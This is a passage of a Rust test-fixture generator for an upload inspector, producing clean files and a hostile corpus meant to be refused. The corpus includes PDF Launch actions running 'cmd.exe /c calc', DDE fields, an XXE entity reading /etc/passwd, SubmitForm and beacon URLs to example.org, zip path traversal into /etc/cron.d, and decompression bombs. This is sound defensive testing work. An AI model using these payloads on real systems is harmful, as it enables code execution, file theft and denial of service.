//! Files made by code for the inspector's tests and benchmark: small clean files of every accepted kind, and a
//! corpus of hostile ones (active content in every spelling, renamed types, polyglots, bombs, formulas), each also
//! truncated and mutated. Deterministic: the same corpus on every machine.

use std::io::{Cursor, Write};

/// One generated file.
#[derive(Debug, Clone)]
pub struct Sample {
    /// The group it belongs to, for the report (`pdf_active`, `ooxml_active`, …).
    pub group: &'static str,
    /// The name it is uploaded under.
    pub name: String,
    pub bytes: Vec<u8>,
}

/// A minimal PDF writer: a catalog, a page tree with `pages` pages of text, and whatever a test adds.
#[derive(Debug, Clone)]
pub struct PdfBuilder {
    pages: usize,
    catalog: Vec<String>,
    trailer: Vec<String>,
    page_entries: Vec<String>,
    annotations: Vec<String>,
    compressed_open_action: Option<String>,
    update: Option<String>,
}

impl PdfBuilder {
    pub fn new(pages: usize) -> Self {
        Self {
            pages: pages.max(1),
            catalog: Vec::new(),
            trailer: Vec::new(),
            page_entries: Vec::new(),
            annotations: Vec::new(),
            compressed_open_action: None,
            update: None,
        }
    }

    /// An entry in the document catalog, e.g. `/OpenAction [3 0 R /Fit]` (object 3 is the first page).
    pub fn catalog_entry(mut self, entry: &str) -> Self {
        self.catalog.push(entry.to_owned());
        self
    }

    pub fn trailer_entry(mut self, entry: &str) -> Self {
        self.trailer.push(entry.to_owned());
        self
    }

    /// An entry in the first page's dictionary.
    pub fn page_entry(mut self, entry: &str) -> Self {
        self.page_entries.push(entry.to_owned());
        self
    }

    /// An annotation dictionary on the first page.
    pub fn annotation(mut self, dictionary: &str) -> Self {
        self.annotations.push(dictionary.to_owned());
        self
    }

    /// An action stored compressed in an object stream (with a cross-reference stream), run when the file opens.
    pub fn compressed_open_action(mut self, dictionary: &str) -> Self {
        self.compressed_open_action = Some(dictionary.to_owned());
        self
    }

    /// An incremental update after the first `%%EOF` that rewrites the catalog with this extra entry.
    pub fn update_catalog(mut self, entry: &str) -> Self {
        self.update = Some(entry.to_owned());
        self
    }

    pub fn build(&self) -> Vec<u8> {
        let mut objects: Vec<String> = Vec::new(); // object n is objects[n - 1]
        let first_page = 3;
        let font = first_page + 2 * self.pages;
        let first_annotation = font + 1;
        let annotation_refs: Vec<String> =
            (0..self.annotations.len()).map(|i| format!("{} 0 R", first_annotation + i)).collect();
        let next_free = first_annotation + self.annotations.len();
        let (action_id, stream_id, xref_id) = (next_free, next_free + 1, next_free + 2);
        let mut catalog = format!("<< /Type /Catalog /Pages 2 0 R {}", self.catalog.join(" "));
        if self.compressed_open_action.is_some() {
            catalog.push_str(&format!(" /OpenAction {action_id} 0 R"));
        }
        catalog.push_str(" >>");
        objects.push(catalog);
        let kids: Vec<String> = (0..self.pages).map(|i| format!("{} 0 R", first_page + 2 * i)).collect();
        objects.push(format!("<< /Type /Pages /Kids [{}] /Count {} >>", kids.join(" "), self.pages));
        for page in 0..self.pages {
            let extra = if page == 0 {
                let annots = if annotation_refs.is_empty() {
                    String::new()
                } else {
                    format!("/Annots [{}]", annotation_refs.join(" "))
                };
                format!("{annots} {}", self.page_entries.join(" "))
            } else {
                String::new()
            };
            objects.push(format!(
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {} 0 R /Resources << /Font << /F1 {font} 0 R >> >> {extra} >>",
                first_page + 2 * page + 1
            ));
            let text = format!("BT /F1 12 Tf 72 720 Td (Page {} of a tender document) Tj ET", page + 1);
            objects.push(format!("<< /Length {} >>\nstream\n{text}\nendstream", text.len()));
        }
        objects.push("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned());
        objects.extend(self.annotations.iter().cloned());

        let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
        let mut offsets = Vec::new();
        for (index, body) in objects.iter().enumerate() {
            offsets.push(out.len());
            out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", index + 1).as_bytes());
        }
        let trailer_extra = self.trailer.join(" ");
        let xref_at;
        if let Some(action) = &self.compressed_open_action {
            // The object stream holds the action; a cross-reference stream lists it as compressed.
            let header = format!("{action_id} 0 ");
            let body = format!("{header}{action}");
            let compressed = deflate(body.as_bytes());
            offsets.push(0); // the action: compressed, no offset
            offsets.push(out.len());
            out.extend_from_slice(
                format!(
                    "{stream_id} 0 obj\n<< /Type /ObjStm /N 1 /First {} /Filter /FlateDecode /Length {} >>\nstream\n",
                    header.len(),
                    compressed.len()
                )
                .as_bytes(),
            );
            out.extend_from_slice(&compressed);
            out.extend_from_slice(b"\nendstream\nendobj\n");
            xref_at = out.len();
            let mut rows = vec![0u8, 0, 0, 0, 0, 0xFF, 0xFF];
            for (index, offset) in offsets.iter().enumerate() {
                let id = index + 1;
                if id == action_id {
                    rows.push(2);
                    rows.extend_from_slice(&(stream_id as u32).to_be_bytes());
                    rows.extend_from_slice(&0u16.to_be_bytes());
                } else {
                    rows.push(1);
                    rows.extend_from_slice(&(*offset as u32).to_be_bytes());
                    rows.extend_from_slice(&0u16.to_be_bytes());
                }
            }
            rows.push(1);
            rows.extend_from_slice(&(xref_at as u32).to_be_bytes());
            rows.extend_from_slice(&0u16.to_be_bytes());
            out.extend_from_slice(
                format!(
                    "{xref_id} 0 obj\n<< /Type /XRef /Size {} /W [1 4 2] /Root 1 0 R {trailer_extra} /Length {} >>\nstream\n",
                    xref_id + 1,
                    rows.len()
                )
                .as_bytes(),
            );
            out.extend_from_slice(&rows);
            out.extend_from_slice(b"\nendstream\nendobj\n");
        } else {
            xref_at = out.len();
            out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", offsets.len() + 1).as_bytes());
            for offset in &offsets {
                out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
            }
            out.extend_from_slice(
                format!("trailer\n<< /Size {} /Root 1 0 R {trailer_extra} >>\n", offsets.len() + 1).as_bytes(),
            );
        }
        out.extend_from_slice(format!("startxref\n{xref_at}\n%%EOF\n").as_bytes());
        if let (Some(entry), None) = (&self.update, &self.compressed_open_action) {
            let at = out.len();
            out.extend_from_slice(
                format!("1 0 obj\n<< /Type /Catalog /Pages 2 0 R {} {entry} >>\nendobj\n", self.catalog.join(" "))
                    .as_bytes(),
            );
            let update_xref = out.len();
            out.extend_from_slice(
                format!(
                    "xref\n1 1\n{at:010} 00000 n \ntrailer\n<< /Size {} /Root 1 0 R /Prev {xref_at} {trailer_extra} >>\nstartxref\n{update_xref}\n%%EOF\n",
                    offsets.len() + 1
                )
                .as_bytes(),
            );
        }
        out
    }
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).expect("writing to memory");
    encoder.finish().expect("writing to memory")
}

/// A minimal Word document or Excel workbook, with what a test adds.
#[derive(Debug, Clone)]
pub struct Ooxml {
    word: bool,
    main_type: String,
    body: String,
    relationships: Vec<(String, String, bool)>,
    parts: Vec<(String, Vec<u8>)>,
    content_types: Vec<(String, String)>,
    leading: Vec<(String, Vec<u8>)>,
    stored: bool,
}

const WORD_MAIN: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const EXCEL_MAIN: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const RELATIONSHIPS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

impl Ooxml {
    pub fn docx() -> Self {
        Self {
            word: true,
            main_type: WORD_MAIN.to_owned(),
            body: "<w:p><w:r><w:t>Technical proposal</w:t></w:r></w:p>".to_owned(),
            relationships: Vec::new(),
            parts: Vec::new(),
            content_types: Vec::new(),
            leading: Vec::new(),
            stored: false,
        }
    }

    pub fn xlsx() -> Self {
        Self {
            word: false,
            main_type: EXCEL_MAIN.to_owned(),
            body: "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Price</t></is></c></row>".to_owned(),
            ..Self::docx()
        }
    }

    /// The inner XML of the document's body (Word) or sheet data (Excel).
    pub fn body(mut self, xml: &str) -> Self {
        self.body = xml.to_owned();
        self
    }

    /// A relationship of the main part; `kind` is the last segment of its type (`hyperlink`, `oleObject`, …).
    pub fn relationship(mut self, kind: &str, target: &str, external: bool) -> Self {
        self.relationships.push((kind.to_owned(), target.to_owned(), external));
        self
    }

    pub fn part(self, name: &str, xml: &str) -> Self {
        self.part_bytes(name, xml.as_bytes())
    }

    pub fn part_bytes(mut self, name: &str, bytes: &[u8]) -> Self {
        self.parts.push((name.to_owned(), bytes.to_vec()));
        self
    }

    /// A part written before every other one (at the start of the file).
    pub fn leading_part(mut self, name: &str, bytes: &[u8]) -> Self {
        self.leading.push((name.to_owned(), bytes.to_vec()));
        self
    }

    pub fn content_type(mut self, part: &str, content_type: &str) -> Self {
        self.content_types.push((part.to_owned(), content_type.to_owned()));
        self
    }

    /// As Word and Excel save a file with macros: the macro-enabled main type and a VBA project.
    pub fn macro_enabled(mut self) -> Self {
        self.main_type = if self.word {
            "application/vnd.ms-word.document.macroEnabled.main+xml"
        } else {
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        }
        .to_owned();
        let folder = if self.word { "word" } else { "xl" };
        self.relationships.push(("vbaProject".to_owned(), "vbaProject.bin".to_owned(), false));
        self.parts.push((format!("{folder}/vbaProject.bin"), b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1vba".to_vec()));
        self
    }

    /// Store parts without compression (as some generators do).
    pub fn stored(mut self) -> Self {
        self.stored = true;
        self
    }

    pub fn build(&self) -> Vec<u8> {
        let (main, rels) = if self.word {
            ("word/document.xml", "word/_rels/document.xml.rels")
        } else {
            ("xl/workbook.xml", "xl/_rels/workbook.xml.rels")
        };
        let mut types = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
             <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
             <Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"png\" ContentType=\"image/png\"/>\
             <Override PartName=\"/{main}\" ContentType=\"{}\"/>",
            self.main_type
        );
        if !self.word {
            types.push_str("<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>");
        }
        for (part, content_type) in &self.content_types {
            types.push_str(&format!("<Override PartName=\"/{part}\" ContentType=\"{content_type}\"/>"));
        }
        types.push_str("</Types>");
        let package_rels = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
             <Relationship Id=\"rId1\" Type=\"{RELATIONSHIPS}/officeDocument\" Target=\"{main}\"/></Relationships>"
        );
        let mut main_rels = String::from(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">",
        );
        if !self.word {
            main_rels.push_str(&format!(
                "<Relationship Id=\"rIdSheet\" Type=\"{RELATIONSHIPS}/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
            ));
        }
        for (index, (kind, target, external)) in self.relationships.iter().enumerate() {
            let mode = if *external { " TargetMode=\"External\"" } else { "" };
            main_rels.push_str(&format!(
                "<Relationship Id=\"rIdX{index}\" Type=\"{RELATIONSHIPS}/{kind}\" Target=\"{target}\"{mode}/>"
            ));
        }
        main_rels.push_str("</Relationships>");
        let mut files: Vec<(String, Vec<u8>)> = self.leading.clone();
        files.extend([
            ("[Content_Types].xml".to_owned(), types.into_bytes()),
            ("_rels/.rels".to_owned(), package_rels.into_bytes()),
            (rels.to_owned(), main_rels.into_bytes()),
        ]);
        if self.word {
            files.push((
                main.to_owned(),
                format!(
                    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{}</w:body></w:document>",
                    self.body
                )
                .into_bytes(),
            ));
        } else {
            files.push((
                main.to_owned(),
                format!(
                    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"{RELATIONSHIPS}\"><sheets><sheet name=\"Prices\" sheetId=\"1\" r:id=\"rIdSheet\"/></sheets></workbook>"
                )
                .into_bytes(),
            ));
            files.push((
                "xl/worksheets/sheet1.xml".to_owned(),
                format!(
                    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>{}</sheetData></worksheet>",
                    self.body
                )
                .into_bytes(),
            ));
        }
        files.extend(self.parts.iter().cloned());
        zip_files(&files, self.stored)
    }
}

/// A ZIP archive of these files, deflated or stored.
pub fn zip_files(files: &[(String, Vec<u8>)], stored: bool) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let method = if stored { zip::CompressionMethod::Stored } else { zip::CompressionMethod::Deflated };
    let options = zip::write::SimpleFileOptions::default().compression_method(method).large_file(false);
    for (name, bytes) in files {
        writer.start_file(name.as_str(), options).expect("writing to memory");
        writer.write_all(bytes).expect("writing to memory");
    }
    writer.finish().expect("writing to memory").into_inner()
}

/// A PNG of `width` × `height` pixels (a gradient).
pub fn png(width: u32, height: u32) -> Vec<u8> {
    encode(width, height, image::ImageFormat::Png)
}

/// A JPEG of `width` × `height` pixels (a gradient).
pub fn jpeg(width: u32, height: u32) -> Vec<u8> {
    encode(width, height, image::ImageFormat::Jpeg)
}

fn encode(width: u32, height: u32, format: image::ImageFormat) -> Vec<u8> {
    let picture = image::RgbImage::from_fn(width, height, |x, y| image::Rgb([(x % 256) as u8, (y % 256) as u8, 128]));
    let mut out = Cursor::new(Vec::new());
    picture.write_to(&mut out, format).expect("encoding to memory");
    out.into_inner()
}

/// A PNG whose header declares `width` × `height` pixels over a few bytes of data: a decompression bomb.
pub fn png_declaring(width: u32, height: u32) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = Vec::new();
    header.extend_from_slice(&width.to_be_bytes());
    header.extend_from_slice(&height.to_be_bytes());
    header.extend_from_slice(&[8, 2, 0, 0, 0]);
    png_chunk(&mut out, b"IHDR", &header);
    png_chunk(&mut out, b"IDAT", &deflate(&[0u8; 64]));
    png_chunk(&mut out, b"IEND", &[]);
    out
}

fn png_chunk(out: &mut Vec<u8>, name: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    out.extend_from_slice(name);
    out.extend_from_slice(data);
    let mut crc = flate2::Crc::new();
    crc.update(name);
    crc.update(data);
    out.extend_from_slice(&crc.sum().to_be_bytes());
}

/// A JPEG whose frame header declares `width` × `height` pixels.
pub fn jpeg_declaring(width: u16, height: u16) -> Vec<u8> {
    let mut bytes = jpeg(16, 16);
    // The baseline frame header (FFC0): length (2), precision (1), then height and width.
    if let Some(at) = bytes.windows(2).position(|w| w == [0xFF, 0xC0]) {
        bytes[at + 5..at + 7].copy_from_slice(&height.to_be_bytes());
        bytes[at + 7..at + 9].copy_from_slice(&width.to_be_bytes());
    }
    bytes
}

/// Clean files of every accepted kind: the inspector must accept each.
pub fn clean() -> Vec<Sample> {
    let sample = |name: &str, bytes: Vec<u8>| Sample { group: "clean", name: name.to_owned(), bytes };
    vec![
        sample("proposal.pdf", PdfBuilder::new(4).build()),
        sample(
            "linked.pdf",
            PdfBuilder::new(2)
                .catalog_entry("/OpenAction [3 0 R /FitH 792]")
                .annotation("<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/terms) >> >>")
                .annotation("<< /Type /Annot /Subtype /Link /Rect [0 9 9 18] /A << /S /GoTo /D [3 0 R /Fit] >> >>")
                .build(),
        ),
        sample("answers.docx", Ooxml::docx().relationship("hyperlink", "mailto:bids@example.org", true).build()),
        sample("answers-stored.docx", Ooxml::docx().stored().build()),
        sample("prices.xlsx", Ooxml::xlsx().build()),
        sample(
            "with-picture.docx",
            Ooxml::docx().part_bytes("word/media/image1.png", &png(32, 32)).relationship("image", "media/image1.png", false).build(),
        ),
        sample("logo.png", png(120, 60)),
        sample("site.jpg", jpeg(200, 150)),
        sample("notes.txt", "Our answers to the questions.\r\nSecond line — with € and ü.\n".as_bytes().to_vec()),
        sample("prices.csv", b"item,quantity,unit price\nDesk,4,-12.50\nChair,10,99\n".to_vec()),
    ]
}

/// The hostile corpus: every sample must be refused. Seeded mutations make it larger than its hand-made core.
pub fn hostile() -> Vec<Sample> {
    let mut core = Vec::new();
    pdf_active(&mut core);
    ooxml_active(&mut core);
    archives(&mut core);
    images(&mut core);
    renamed(&mut core);
    polyglots(&mut core);
    formulas(&mut core);
    let mut all: Vec<Sample> =
        core.iter().map(|s| Sample { group: s.group, name: s.name.clone(), bytes: s.bytes.clone() }).collect();
    // Every binary sample cut short at five places: whatever it was, it is now incomplete.
    for sample in core.iter().filter(|s| !is_text_name(&s.name)) {
        for tenth in [1, 3, 5, 7, 9] {
            let cut = sample.bytes.len() * tenth / 10;
            if cut > 0 {
                all.push(Sample { group: "truncated", name: sample.name.clone(), bytes: sample.bytes[..cut].to_vec() });
            }
        }
    }
    // Every binary sample with bytes changed at random places away from what makes it hostile: it stays hostile
    // or becomes unreadable; either way it must stay refused.
    let mut random = Rng(0x5eed_1f11);
    // (A sample whose hostility lies in bytes spread over the file, such as a name listed twice, is not mutated.)
    for sample in
        core.iter().filter(|s| !is_text_name(&s.name) && s.danger.as_ref().is_none_or(|d| d.len() < s.bytes.len()))
    {
        let keep = sample.danger.clone();
        for _ in 0..6 {
            let mut bytes = sample.bytes.clone();
            for _ in 0..(1 + random.below(4)) {
                let at = random.below(bytes.len());
                if keep.as_ref().is_some_and(|range| range.contains(&at)) || at < 8 {
                    continue;
                }
                bytes[at] = random.below(256) as u8;
            }
            all.push(Sample { group: "mutated", name: sample.name.clone(), bytes });
        }
    }
    all
}

fn is_text_name(name: &str) -> bool {
    name.ends_with(".txt") || name.ends_with(".csv")
}

/// A sample while the corpus is built: the byte range that makes it hostile is left alone by mutations.
#[derive(Debug, Clone)]
struct Core {
    group: &'static str,
    name: String,
    bytes: Vec<u8>,
    danger: Option<std::ops::Range<usize>>,
}

fn push(core: &mut Vec<Core>, group: &'static str, name: &str, bytes: Vec<u8>, marker: Option<&[u8]>) {
    let danger =
        marker.and_then(|marker| bytes.windows(marker.len()).position(|w| w == marker).map(|at| at..at + marker.len()));
    core.push(Core { group, name: name.to_owned(), bytes, danger });
}

fn pdf_active(core: &mut Vec<Core>) {
    // (what, where, snippet) — where: catalog, page, annotation, trailer
    let cases: &[(&str, &str)] = &[
        ("catalog", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        ("catalog", "/Names << /JavaScript << /Names [(init) << /S /JavaScript /JS (this.print()) >>] >> >>"),
        ("catalog", "/AA << /WC << /S /JavaScript /JS (x) >> >>"),
        ("page", "/AA << /O << /S /URI /URI (https://example.org/track) >> >>"),
        ("catalog", "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        ("catalog", "/OpenAction << /S /URI /URI (https://example.org/beacon) >>"),
        ("catalog", "/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
        ("catalog", "/OpenAction << /S /Named /N /Print >>"),
        ("annotation", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (setup.exe) >> >>"),
        (
            "annotation",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://example.org/x) >> >>",
        ),
        ("annotation", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /ImportData /F (data.fdf) >> >>"),
        ("annotation", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToE /T << /R /C /N (a) >> >> >>"),
        ("annotation", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert(1)) >> >>"),
        (
            "annotation",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///C:/Windows/win.ini) >> >>",
        ),
        (
            "annotation",
            "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) >> >>",
        ),
        ("annotation", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        ("annotation", "<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"),
        ("annotation", "<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] >>"),
        ("annotation", "<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"),
        ("annotation", "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (x) >> >> >>"),
        (
            "catalog",
            "/Names << /EmbeddedFiles << /Names [(invoice.exe) << /Type /Filespec /F (invoice.exe) /EF << >> >>] >> >>",
        ),
        ("catalog", "/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>"),
        ("trailer", "/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>"),
    ];
    for (index, (place, snippet)) in cases.iter().enumerate() {
        let build = |snippet: &str| {
            let builder = PdfBuilder::new(2);
            match *place {
                "catalog" => builder.catalog_entry(snippet),
                "page" => builder.page_entry(snippet),
                "annotation" => builder.annotation(snippet),
                _ => builder.trailer_entry(snippet),
            }
            .build()
        };
        push(core, "pdf_active", &format!("active-{index}.pdf"), build(snippet), Some(snippet.as_bytes()));
        // The same with every name's letters written as #xx escapes.
        let escaped = escape_names(snippet);
        push(core, "pdf_active", &format!("active-{index}-escaped.pdf"), build(&escaped), Some(escaped.as_bytes()));
        // Added by an incremental update after the first end of file.
        if *place == "catalog" {
            let updated = PdfBuilder::new(2).update_catalog(snippet).build();
            push(core, "pdf_active", &format!("active-{index}-update.pdf"), updated, Some(snippet.as_bytes()));
        }
    }
    // Actions compressed in an object stream, invisible to a byte scan.
    for (index, action) in [
        "<< /S /JavaScript /JS (app.alert(1)) >>",
        "<< /S /Launch /F (cmd.exe) >>",
        "<< /S /SubmitForm /F (https://example.org/x) >>",
        "<< /S /URI /URI (https://example.org/beacon) >>",
    ]
    .iter()
    .enumerate()
    {
        push(
            core,
            "pdf_active",
            &format!("compressed-{index}.pdf"),
            PdfBuilder::new(1).compressed_open_action(action).build(),
            None,
        );
    }
}

/// `/JavaScript` → `/#4Aa#76a…`: every second letter of every name escaped.
fn escape_names(snippet: &str) -> String {
    let mut out = String::new();
    let mut in_name = false;
    let mut position = 0;
    for c in snippet.chars() {
        if c == '/' {
            in_name = true;
            position = 0;
            out.push(c);
            continue;
        }
        if in_name && c.is_ascii_alphanumeric() {
            if position % 2 == 0 {
                out.push_str(&format!("#{:02X}", c as u32));
            } else {
                out.push(c);
            }
            position += 1;
            continue;
        }
        in_name = false;
        out.push(c);
    }
    out
}

fn ooxml_active(core: &mut Vec<Core>) {
    let field = |instruction: &str| {
        format!(
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">{instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
        )
    };
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("macros.docx", Ooxml::docx().macro_enabled().build()),
        ("macros.xlsx", Ooxml::xlsx().macro_enabled().build()),
        ("vba-part-only.docx", Ooxml::docx().part_bytes("word/vbaProject.bin", b"\xD0\xCF\x11\xE0").build()),
        (
            "vba-relationship.docx",
            Ooxml::docx().relationship("vbaProject", "vbaProject.bin", false).part_bytes("word/vba.bin", b"x").build(),
        ),
        ("activex.docx", Ooxml::docx().part("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"urn:a\"/>").build()),
        ("activex-rel.xlsx", Ooxml::xlsx().relationship("control", "../activeX/activeX1.xml", false).build()),
        ("ole.docx", Ooxml::docx().part_bytes("word/embeddings/oleObject1.bin", b"\xD0\xCF\x11\xE0").build()),
        ("ole-rel.docx", Ooxml::docx().relationship("oleObject", "embeddings/x.bin", false).build()),
        ("package.xlsx", Ooxml::xlsx().relationship("package", "../embeddings/Doc1.docx", false).build()),
        (
            "ole-element.docx",
            Ooxml::docx().body("<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" ProgID=\"Package\"/></w:object></w:r></w:p>").build(),
        ),
        ("altchunk.docx", Ooxml::docx().body("<w:altChunk r:id=\"rId9\" xmlns:r=\"urn:r\"/>").build()),
        ("template.docx", Ooxml::docx().relationship("attachedTemplate", "https://example.org/t.dotm", true).build()),
        ("template-unc.docx", Ooxml::docx().relationship("attachedTemplate", "\\\\host\\share\\t.dotm", true).build()),
        ("remote-image.docx", Ooxml::docx().relationship("image", "https://example.org/pixel.png", true).build()),
        ("frame.docx", Ooxml::docx().relationship("frame", "https://example.org/f.html", true).build()),
        ("subdocument.docx", Ooxml::docx().relationship("subDocument", "other.docx", false).build()),
        (
            "external-link.xlsx",
            Ooxml::xlsx()
                .relationship("externalLink", "externalLinks/externalLink1.xml", false)
                .part("xl/externalLinks/externalLink1.xml", "<externalLink><externalBook r:id=\"rId1\" xmlns:r=\"urn:r\"/></externalLink>")
                .build(),
        ),
        (
            "dde-link.xlsx",
            Ooxml::xlsx().part("xl/links.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>").build(),
        ),
        ("dde.docx", Ooxml::docx().body(&field(" DDE \"c:\\\\windows\\\\system32\\\\cmd.exe\" \"/c calc\" ")).build()),
        ("ddeauto.docx", Ooxml::docx().body(&field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ")).build()),
        ("includetext.docx", Ooxml::docx().body(&field(" INCLUDETEXT \"\\\\\\\\host\\\\share\\\\a.docx\" ")).build()),
        ("includepicture.docx", Ooxml::docx().body(&field(" INCLUDEPICTURE \"https://example.org/p.png\" \\d ")).build()),
        ("link-field.docx", Ooxml::docx().body(&field(" LINK Excel.Sheet.8 \"c:\\\\a.xls\" Sheet1 ")).build()),
        (
            "fldsimple-dde.docx",
            Ooxml::docx().body("<w:fldSimple w:instr=\" DDEAUTO cmd /c calc \"><w:r><w:t>x</w:t></w:r></w:fldSimple>").build(),
        ),
        (
            "doctype.docx",
            Ooxml::docx().part("customXml/item1.xml", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>").build(),
        ),
        (
            "billion-laughs.xlsx",
            Ooxml::xlsx().part("xl/custom.xml", "<!DOCTYPE l [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><l>&b;</l>").build(),
        ),
        ("svg-script.docx", Ooxml::docx().part("word/media/image1.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>").build()),
        ("svg-onload.docx", Ooxml::docx().part("word/media/image2.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>").build()),
        (
            "svg-href.docx",
            Ooxml::docx().part("word/media/image3.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:x=\"http://www.w3.org/1999/xlink\"><image x:href=\"https://example.org/p.png\"/></svg>").build(),
        ),
        ("macro-type.docx", Ooxml::docx().content_type("word/vba.xml", "application/vnd.ms-office.vbaProject").part("word/vba.xml", "<v/>").build()),
        ("fonts.docx", Ooxml::docx().part_bytes("word/fonts/font1.odttf", &[7u8; 64]).build()),
        ("script.docx", Ooxml::docx().part_bytes("word/run.js", b"WScript.Shell").build()),
    ];
    for (name, bytes) in cases {
        push(core, "ooxml_active", name, bytes, None);
    }
}

fn archives(core: &mut Vec<Core>) {
    let many: Vec<(String, Vec<u8>)> = (0..6_000).map(|i| (format!("word/p{i}.xml"), b"<p/>".to_vec())).collect();
    let mut many_parts = Ooxml::docx();
    for (name, bytes) in &many {
        many_parts = many_parts.part_bytes(name, bytes);
    }
    // Parts of 1 MB of spaces each: within the per-part bound, hundreds of times the file in total.
    let filler = vec![b' '; 1024 * 1024];
    let mut expanding = Ooxml::docx();
    for index in 0..120 {
        expanding = expanding.part_bytes(&format!("customXml/filler{index}.xml"), &filler);
    }
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("ratio-bomb.docx", Ooxml::docx().part_bytes("customXml/item1.xml", &vec![b' '; 8 * 1024 * 1024]).build()),
        ("expanding.docx", expanding.build()),
        ("many-parts.docx", many_parts.build()),
        (
            "nested.docx",
            Ooxml::docx()
                .part_bytes("word/media/inner.zip", &zip_files(&[("a.xml".into(), b"<a/>".to_vec())], false))
                .build(),
        ),
        ("traversal.docx", Ooxml::docx().part_bytes("../../../tmp/evil.sh", b"#!/bin/sh").build()),
        ("absolute.docx", Ooxml::docx().part_bytes("/etc/cron.d/evil", b"* * * * * root sh").build()),
        ("backslash.xlsx", Ooxml::xlsx().part_bytes("..\\..\\evil.bat", b"calc").build()),
        ("encrypted.docx", encrypted_flag(Ooxml::docx().build())),
        ("plain-zip.docx", zip_files(&[("readme.txt".into(), b"hello".to_vec())], false)),
        ("no-main.xlsx", Ooxml::xlsx().content_type("xl/missing.xml", EXCEL_MAIN).build()),
        (
            "prefixed.docx",
            [b"PK\x03\x04".to_vec(), b"MZ\x90\x00 prepended program ".to_vec(), Ooxml::docx().build()].concat(),
        ),
    ];
    for (name, bytes) in cases {
        push(core, "archive", name, bytes, None);
    }
    let duplicate = duplicate_part();
    core.push(Core {
        group: "archive",
        name: "duplicate.docx".into(),
        danger: Some(0..duplicate.len()),
        bytes: duplicate,
    });
}

/// A docx whose document part appears twice (the central directory lists both).
fn duplicate_part() -> Vec<u8> {
